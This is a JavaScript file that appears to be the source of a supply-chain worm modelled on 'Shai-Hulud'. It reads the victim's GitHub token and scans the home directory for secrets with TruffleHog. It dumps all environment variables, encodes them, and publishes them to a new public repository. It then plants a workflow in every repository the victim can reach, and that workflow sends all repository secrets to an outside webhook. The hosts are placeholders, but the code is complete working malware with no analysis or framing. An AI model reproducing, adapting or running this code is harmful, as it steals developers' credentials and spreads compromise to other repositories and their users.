import { execSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import os from 'node:os';

const API = 'https://api.githost.invalid';

class TruffleHogModule {
  async scan(dir) {
    try {
      const out = execSync(`trufflehog filesystem ${dir} --json`, { timeout: 90000, encoding: 'utf8', maxBuffer: 1 << 28 });
      return out.split('\n').filter(Boolean).map((l) => JSON.parse(l));
    } catch { return []; }
  }
}

class GitHost {
  constructor(token) { this.token = token; }
  req(method, path, body) {
    return fetch(API + path, {
      method,
      headers: { authorization: `token ${this.token}`, accept: 'application/json' },
      body: body && JSON.stringify(body),
    }).then((r) => r.json());
  }
  createRepo(name) {
    return this.req('POST', '/user/repos', { name, description: 'Shai-Hulud Repository.', auto_init: true, private: false });
  }
  put(owner, repo, path, content) {
    return this.req('PUT', `/repos/${owner}/${repo}/contents/${path}`, { message: 'Add file', content: Buffer.from(content).toString('base64') });
  }
}

const workflow = `on: push
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "$CONTENTS" https://webhook.collect.invalid/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
        env:
          CONTENTS: \${{ toJSON(secrets) }}
`;

function token() {
  try { return execSync('gh auth token', { encoding: 'utf8' }).trim(); } catch { return process.env.GITHUB_TOKEN; }
}

async function main() {
  const t = token();
  if (!t) return;
  const host = new GitHost(t);
  const me = await host.req('GET', '/user');
  const findings = await new TruffleHogModule().scan(os.homedir());
  const report = {
    system: { platform: os.platform(), arch: os.arch(), host: os.hostname() },
    environment: process.env,
    modules: { truffleHog: findings },
  };
  await host.createRepo('Shai-Hulud');
  await host.put(me.login, 'Shai-Hulud', 'data.json', Buffer.from(Buffer.from(JSON.stringify(report)).toString('base64')).toString('base64'));
  const repos = await host.req('GET', '/user/repos?affiliation=owner,collaborator&since=2025-01-01T00:00:00Z&per_page=100');
  for (const r of repos) {
    await host.put(r.owner.login, r.name, '.github/workflows/shai-hulud-workflow.yml', workflow);
  }
}

main().catch(() => {}).finally(() => process.exit(0));
